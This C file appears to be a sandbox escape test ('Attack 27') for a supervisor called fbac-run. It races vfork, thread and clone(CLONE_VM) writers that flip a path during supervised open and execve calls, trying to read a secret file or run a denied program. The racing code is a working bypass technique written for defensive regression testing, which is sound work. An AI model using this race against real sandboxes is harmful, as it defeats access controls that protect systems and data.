/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Attack 27: a process that shares the caller's memory without being one
 * of its threads (vfork, clone(CLONE_VM) without CLONE_THREAD) rewrites
 * the path while the caller is in a supervised call. Freezing the caller's
 * thread group does not stop such a writer.
 *   A. open: a CLONE_VM child flips the parent's path between the decoy and
 *      the secret while the parent opens it in a loop;
 *   B. vfork + execve: the vforked child execs a path that a thread of the
 *      parent (same memory) flips between ~/bin/prog-A and ~/bin/prog-D;
 *   C. a forked process execs while its own CLONE_VM child flips the path.
 * prog-D running (the marker exits 42) or the secret being read is an
 * escape.
 */
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/wait.h>

#include "escape-common.h"

static char path[PATH_MAX];
static struct esc_flip flip;
static char *envp_[] = { "MARKER_QUIET=1", NULL };

static double flip_until;

/* Bounded in time: after an exec, nobody is left to tell it to stop (and
 * fbac-run serves the sandbox until its last process is gone). */
static int clone_flipper(void *p)
{
	unsigned long n = 0;

	(void)p;
	while (!atomic_load_explicit(&flip.stop, memory_order_relaxed)) {
		*flip.at = flip.b;
		for (volatile int i = 0; i < 50; i++)
			;
		*flip.at = flip.a;
		for (volatile int i = 0; i < 50; i++)
			;
		if ((++n & 1023) == 0 && esc_now() > flip_until)
			break;
	}
	return 0;
}

/* A CLONE_VM child (no CLONE_THREAD) running the flipper; returns its pid. */
static pid_t start_clone_flipper(void)
{
	size_t sz = 256 * 1024;
	char *stack = mmap(NULL, sz, PROT_READ | PROT_WRITE,
			   MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
	pid_t pid;

	if (stack == MAP_FAILED)
		esc_setup_error("mmap: %m");
	pid = clone(clone_flipper, stack + sz, CLONE_VM | SIGCHLD, NULL);
	if (pid < 0)
		esc_setup_error("clone(CLONE_VM): %m");
	return pid;
}

static void open_race(double seconds)
{
	unsigned long tries = 0, decoys = 0;
	double end = esc_now() + seconds;
	int before = atomic_load(&esc_escaped);
	size_t at = esc_diff_at(esc_decoy, esc_secret_alt);
	pid_t pid;

	ESC_FMT(path, "%s", esc_decoy);
	flip.at = &path[at];
	flip.a = esc_decoy[at];
	flip.b = esc_secret_alt[at];
	atomic_store(&flip.stop, 0);
	flip_until = end + 0.1;
	pid = start_clone_flipper();
	while (esc_now() < end && atomic_load(&esc_escaped) == before) {
		char buf[512];
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		ssize_t n;

		tries++;
		if (fd < 0)
			continue;
		n = esc_read_fd(fd, buf, sizeof(buf));
		close(fd);
		if (esc_is_stolen(buf, n))
			esc_leak("open under a CLONE_VM writer", buf, n);
		else
			decoys++;
	}
	atomic_store(&flip.stop, 1);
	waitpid(pid, NULL, 0);
	esc_say("A. open: %lu opens, %lu of the decoy", tries, decoys);
	if (decoys)
		esc_control("A. racing opens of the decoy were served");
}

static void exec_paths(size_t *at)
{
	char a[PATH_MAX], d[PATH_MAX];

	ESC_FMT(a, "%s/prog-A", esc_bin);
	ESC_FMT(d, "%s/prog-D", esc_bin);
	*at = esc_diff_at(a, d);
	ESC_FMT(path, "%s", a);
	flip.at = &path[*at];
	flip.a = a[*at];
	flip.b = d[*at];
}

/* The vforked child never returns from here: it execs or exits. */
static __attribute__((noinline)) pid_t vfork_exec(void)
{
	pid_t pid = vfork();

	if (pid == 0) {
		char *argv[] = { "vforked", NULL };

		execve(path, argv, envp_);
		_exit(77);
	}
	return pid;
}

static void vfork_race(double seconds)
{
	unsigned long tries = 0, allowed = 0;
	double end = esc_now() + seconds;
	int before = atomic_load(&esc_escaped);
	size_t at;
	pthread_t t;

	exec_paths(&at);
	atomic_store(&flip.stop, 0);
	if (pthread_create(&t, NULL, esc_flipper, &flip))
		esc_setup_error("pthread_create failed");
	while (esc_now() < end && atomic_load(&esc_escaped) == before) {
		int st;
		pid_t pid = vfork_exec();

		if (pid < 0)
			esc_setup_error("vfork: %m");
		tries++;
		waitpid(pid, &st, 0);
		if (WIFEXITED(st) && WEXITSTATUS(st) == MARKER_DENIED)
			esc_escape("B. vfork: the vforked child ran ~/bin/prog-D (attempt %lu)",
				   tries);
		else if (WIFEXITED(st) && WEXITSTATUS(st) == MARKER_ALLOWED)
			allowed++;
	}
	atomic_store(&flip.stop, 1);
	pthread_join(t, NULL);
	esc_say("B. vfork: %lu execs, prog-A ran %lu times", tries, allowed);
	if (allowed)
		esc_control("B. vforked execs of prog-A were served");
}

static void clonevm_exec_race(double seconds)
{
	unsigned long tries = 0, allowed = 0;
	double end = esc_now() + seconds;
	int before = atomic_load(&esc_escaped);
	size_t at;

	exec_paths(&at);
	while (esc_now() < end && atomic_load(&esc_escaped) == before) {
		int st;
		pid_t pid = fork();

		if (pid < 0)
			esc_setup_error("fork: %m");
		if (pid == 0) {
			char *argv[] = { "clonevm", NULL };

			atomic_store(&flip.stop, 0);
			flip_until = esc_now() + 0.05;
			start_clone_flipper();
			for (volatile int i = 0; i < 5000; i++)
				;
			execve(path, argv, envp_);
			atomic_store(&flip.stop, 1);
			_exit(77);
		}
		tries++;
		waitpid(pid, &st, 0);
		if (WIFEXITED(st) && WEXITSTATUS(st) == MARKER_DENIED)
			esc_escape("C. clone(CLONE_VM) writer: ~/bin/prog-D ran (attempt %lu)",
				   tries);
		else if (WIFEXITED(st) && WEXITSTATUS(st) == MARKER_ALLOWED)
			allowed++;
	}
	esc_say("C. CLONE_VM writer: %lu execs, prog-A ran %lu times", tries, allowed);
	if (allowed)
		esc_control("C. execs of prog-A were served");
}

int main(void)
{
	esc_init("vfork-clonevm", "vfork and CLONE_VM writers rewrite the path of open and execve");
	signal(SIGCHLD, SIG_DFL);
	open_race(esc_seconds / 3);
	vfork_race(esc_seconds / 3);
	clonevm_exec_race(esc_seconds / 3);
	return esc_finish();
}
